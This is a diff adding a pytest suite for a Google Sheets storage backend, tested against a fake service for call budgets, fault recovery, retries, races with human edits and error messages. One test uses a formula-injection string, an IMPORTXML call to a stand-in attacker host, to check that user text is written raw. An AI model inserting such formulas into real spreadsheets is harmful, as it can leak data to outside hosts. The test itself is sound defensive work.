@@ -1,0 +1,193 @@
+"""The Google Sheets store against the twin: call budget, faults, races, RAW text, errors."""
+
+from __future__ import annotations
+
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from automation.errors import BackendError, SheetError
+from automation.store.base import Append, Changes, Delete, Update
+from automation.store.gsheets import SheetsStore
+from tests.fakes.google import make_app
+from tests.google_store_factory import google_services
+
+
+@pytest.fixture(scope="module")
+def twin() -> Any:
+    return make_app(require_auth=True)
+
+
+@pytest.fixture(scope="module")
+def services(twin: Any, tmp_path_factory: pytest.TempPathFactory) -> Any:
+    return google_services(twin, tmp_path_factory.mktemp("key"))
+
+
+@pytest.fixture
+def store(twin: Any, services: Any, tmp_path: Path) -> SheetsStore:
+    services.retry.sleep = lambda s: None
+    s = SheetsStore(services, twin.create_spreadsheet("Chorus"), lock_dir=tmp_path)
+    s.ensure_tabs()
+    twin.clear_faults()
+    return s
+
+
+def queue_row(n: int, **extra: str) -> dict[str, str]:
+    row = {"id": f"Q-{n:05d}", "source_kind": "External", "headline": f"Item {n}", "status": "New"}
+    row.update(extra)
+    return row
+
+
+def scenario(n: int) -> tuple[Changes, Changes]:
+    seed = Changes(appends=tuple(Append("Queue", queue_row(i)) for i in range(1, n + 1)))
+    work = Changes(
+        appends=tuple(Append("Queue", queue_row(i)) for i in range(n + 1, 2 * n + 1))
+        + (Append("Mentions", {"id": "M-1", "found_at": "2026-11-24 09:00", "kind": "Mention", "status": "New"}),),
+        updates=tuple(Update("Queue", (f"Q-{i:05d}",), {"status": "Approved", "notes": "ok"}) for i in range(1, n + 1, 2)),
+        deletes=(Delete("Queue", ("Q-00002",)),),
+    )
+    return seed, work
+
+
+def count_calls(twin: Any, fn: Any) -> int:
+    twin.reset_calls()
+    fn()
+    return twin.call_count()
+
+
+def test_reading_and_writing_10000_rows_costs_the_same_calls_as_10(twin: Any, store: SheetsStore, services: Any, tmp_path: Path) -> None:
+    costs = {}
+    for n in (10, 10_000):
+        s = SheetsStore(services, twin.create_spreadsheet(f"n={n}"), lock_dir=tmp_path)
+        s.ensure_tabs()
+        seed, work = scenario(n)
+        s.apply(seed)
+        read = count_calls(twin, lambda s=s: s.read(["Queue", "Mentions", "People"]))
+        write = count_calls(twin, lambda s=s, w=work: s.apply(w))
+        costs[n] = (read, write)
+        assert len(s.read(["Queue"])["Queue"]) == 2 * n - 1
+    assert costs[10] == costs[10_000]
+    read, write = costs[10]
+    assert read == 1  # one values:batchGet
+    assert write <= 6  # re-read, batchUpdate, deleteDimension, two appends (+ tab ids once)
+
+
+def test_ensure_tabs_is_one_structural_batch_update(twin: Any, services: Any, tmp_path: Path) -> None:
+    s = SheetsStore(services, twin.create_spreadsheet("new"), lock_dir=tmp_path)
+    twin.reset_calls()
+    created = s.ensure_tabs()
+    assert "Queue" in created and "Runs" in created
+    assert twin.call_count(method="spreadsheets.batchUpdate") == 1
+    assert twin.call_count() <= 3
+    headers = twin.sheet_values(s.spreadsheet_id, "Queue!A1:C1")
+    assert headers == [["ID", "Created", "Source Kind"]]
+
+
+def test_user_text_is_written_raw_never_as_a_formula(twin: Any, store: SheetsStore) -> None:
+    text = '=IMPORTXML("http://evil.example","//a")'
+    store.apply(Changes(appends=(Append("Queue", queue_row(1, headline=text, details="+SUM(1)")),)))
+    values = twin.sheet_values(store.spreadsheet_id, "Queue!A2:F2")
+    assert values[0][4] == text and values[0][5] == "+SUM(1)"
+
+
+def test_an_update_lands_on_the_right_row_after_a_coordinator_sorts_between_read_and_write(twin: Any, store: SheetsStore) -> None:
+    store.apply(Changes(appends=tuple(Append("Queue", queue_row(n)) for n in range(1, 6))))
+    store.read(["Queue"])  # the job's read
+    # The coordinator sorts Z-A and inserts a row at the top, through the API as the UI would.
+    gc = store.services.gspread_client()
+    ws = gc.open_by_key(store.spreadsheet_id).worksheet("Queue")
+    rows = ws.get_all_values()
+    ws.update([rows[0]] + list(reversed(rows[1:])), "A1", raw=True)
+    ws.insert_row(["Q-09999", "", "External", "", "Inserted by hand", "", "", "", "", "New"], 2)
+    result = store.apply(Changes(updates=(Update("Queue", ("Q-00002",), {"status": "Approved"}),)))
+    queue = store.read(["Queue"])["Queue"].set_index("id")
+    assert queue.loc["Q-00002", "status"] == "Approved"
+    assert (queue["status"] == "Approved").sum() == 1
+    assert queue.loc["Q-09999", "headline"] == "Inserted by hand"
+    assert result.updated == {"Queue": 1}
+
+
+def test_a_column_people_added_between_fields_is_untouched(twin: Any, store: SheetsStore) -> None:
+    store.apply(Changes(appends=(Append("Queue", queue_row(1)),)))
+    gc = store.services.gspread_client()
+    ws = gc.open_by_key(store.spreadsheet_id).worksheet("Queue")
+    ws.insert_cols([["My notes", "keep me"]], 2)
+    store.apply(Changes(updates=(Update("Queue", ("Q-00001",), {"id": "Q-00001", "created": "2026-11-24 09:00"}),)))
+    row = twin.sheet_values(store.spreadsheet_id, "Queue!A2:C2")[0]
+    assert row == ["Q-00001", "keep me", "2026-11-24 09:00"]
+
+
+@pytest.mark.parametrize("fault", ["429", "500", "503", "reset", "timeout"])
+@pytest.mark.parametrize("after_apply", [False, True])
+def test_a_fault_at_any_call_ends_in_the_same_sheet_as_no_fault(
+    twin: Any, services: Any, tmp_path: Path, fault: str, after_apply: bool
+) -> None:
+    if fault == "429" and after_apply:
+        pytest.skip("Google never applies a request it answers 429")
+    seed, work = scenario(6)
+
+    def final_state(inject_at: int | None) -> tuple[Any, ...]:
+        s = SheetsStore(services, twin.create_spreadsheet("faults"), lock_dir=tmp_path)
+        s.ensure_tabs()
+        s.apply(seed)
+        twin.clear_faults()
+        if inject_at is not None:
+            twin.inject(fault, at_call=inject_at, api="sheets", after_apply=after_apply)
+        twin.reset_calls()
+        try:
+            s.apply(work)
+        except BackendError:
+            twin.clear_faults()
+            s.apply(work)  # the run stopped with a clear error; a re-run completes it
+        calls = twin.call_count(api="sheets")
+        twin.clear_faults()
+        return calls, twin.sheet_values(s.spreadsheet_id, "Queue"), twin.sheet_values(s.spreadsheet_id, "Mentions")
+
+    calls, *expected = final_state(None)
+    assert calls >= 4
+    for at in range(1, calls + 1):
+        assert final_state(at)[1:] == tuple(expected), f"{fault} at call {at} (after_apply={after_apply})"
+
+
+def test_429_waits_at_least_retry_after(twin: Any, store: SheetsStore) -> None:
+    sleeps: list[float] = []
+    store.services.retry.sleep = sleeps.append
+    twin.inject("429", at_call=1, api="sheets", retry_after=7)
+    store.read(["Queue"])
+    assert sleeps and sleeps[0] >= 7
+
+
+def test_retries_are_bounded_and_end_in_a_clear_error_with_nothing_written(twin: Any, store: SheetsStore) -> None:
+    store.apply(Changes(appends=(Append("Queue", queue_row(1)),)))
+    before = twin.sheet_values(store.spreadsheet_id, "Queue")
+    twin.inject("503", at_call=1, api="sheets", times=100)
+    with pytest.raises(BackendError, match="after 6 tries"):
+        store.apply(Changes(appends=(Append("Queue", queue_row(2)),), updates=(Update("Queue", ("Q-00001",), {"status": "Approved"}),)))
+    twin.clear_faults()
+    assert twin.sheet_values(store.spreadsheet_id, "Queue") == before
+
+
+def test_a_missing_tab_is_an_error_naming_it(twin: Any, services: Any, tmp_path: Path) -> None:
+    s = SheetsStore(services, twin.create_spreadsheet("bare"), lock_dir=tmp_path)
+    s.ensure_tabs(["Queue"])
+    with pytest.raises(SheetError, match="'People'"):
+        s.read(["Queue", "People"])
+
+
+def test_an_unknown_spreadsheet_says_to_share_it_with_the_service_account(services: Any, tmp_path: Path) -> None:
+    s = SheetsStore(services, "does-not-exist", lock_dir=tmp_path)
+    with pytest.raises(BackendError, match="share the spreadsheet with chorus-twin"):
+        s.read(["Queue"])
+
+
+def test_a_cell_over_sheets_limit_is_refused_before_anything_is_written(twin: Any, store: SheetsStore) -> None:
+    with pytest.raises(SheetError, match="50,000"):
+        store.apply(Changes(appends=(Append("Queue", queue_row(1)), Append("Queue", queue_row(2, details="x" * 50_001)))))
+    assert twin.sheet_values(store.spreadsheet_id, "Queue")[1:] == []
+
+
+def test_api_calls_are_counted_per_run(twin: Any, store: SheetsStore) -> None:
+    before = store.calls
+    store.read(["Queue"])
+    assert store.calls == before + 1
